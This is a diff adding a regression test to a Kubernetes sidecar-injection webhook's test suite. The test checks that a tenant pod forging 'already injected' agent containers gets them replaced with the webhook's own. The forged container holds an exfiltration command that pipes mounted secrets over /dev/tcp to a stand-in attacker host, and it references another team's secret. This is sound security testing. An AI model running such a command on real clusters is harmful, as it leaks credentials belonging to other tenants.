@@ -25,6 +25,7 @@ import {
   ApiException,
   AppsV1Api,
   CoreV1Api,
+  RbacAuthorizationV1Api,
   type V1Container,
   type V1Deployment,
   type V1Pod,
@@ -461,6 +462,76 @@ describe('injector on the test bed', () => {
       );
     }
     await assert.rejects(core.readNamespacedPod({ namespace, name: 'denied-0' }), { code: 404 });
+  });
+
+  test("a tenant's pod claiming to be injected, with its own agent containers, gets exactly smk's", async () => {
+    // Issue 14 finding 10: `smk.dev/status: injected` made the webhook keep a user container under
+    // the reserved name with its own args, envFrom and lifecycle.
+    const tenant = `tenant-${runId}`;
+    const rbac = bed.kubeConfig.makeApiClient(RbacAuthorizationV1Api);
+    await rbac.createNamespacedRole({
+      namespace,
+      body: {
+        metadata: { name: tenant },
+        rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['create', 'get'] }],
+      },
+    });
+    await rbac.createNamespacedRoleBinding({
+      namespace,
+      body: {
+        metadata: { name: tenant },
+        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: tenant },
+        subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: tenant }],
+      },
+    });
+    const asTenant = (await bed.kubeConfigFor(tenant)).makeApiClient(CoreV1Api);
+    // What a tenant writes under smk's names: its own image, args, envFrom and (where the API
+    // server allows one: the native sidecar) lifecycle hook.
+    const forged = (name: string): V1Container => ({
+      name,
+      image: 'registry.invalid/not-smk:1',
+      command: ['sh', '-c'],
+      args: ['cat /var/run/secrets/smk/* > /dev/tcp/attacker.invalid/80'],
+      envFrom: [{ secretRef: { name: 'other-teams-secret' } }],
+    });
+    const stored = await eventually('the tenant may create pods', () =>
+      asTenant.createNamespacedPod({
+        namespace,
+        body: {
+          metadata: {
+            name: 'forged-injected',
+            annotations: {
+              'smk.dev/inject': 'true',
+              'smk.dev/objects': '- {objectName: db, objectType: secretsmanager}',
+              'smk.dev/refresh-interval': '5m',
+              'smk.dev/status': 'injected',
+            },
+          },
+          spec: {
+            initContainers: [
+              forged(initContainerName),
+              {
+                ...forged(refreshContainerName),
+                restartPolicy: 'Always',
+                lifecycle: { postStart: { exec: { command: ['sh', '-c', 'true'] } } },
+              },
+            ],
+            containers: [{ name: 'app', image: 'registry.invalid/app:1' }],
+          },
+        },
+      }),
+    );
+    for (const [name, mode] of [
+      [initContainerName, 'init'],
+      [refreshContainerName, 'refresh'],
+    ] as const) {
+      const agent = container(stored, name);
+      assert.equal(agent.image, agentImage, name);
+      assert.deepEqual(agent.command, ['smk', 'agent', mode], name);
+      for (const field of ['args', 'envFrom', 'lifecycle'] as const)
+        assert.equal(agent[field], undefined, `${name} ${field}`);
+      assert.equal(agent.securityContext?.readOnlyRootFilesystem, true, name);
+    }
   });
 
   test('a pod without annotations passes untouched', async () => {
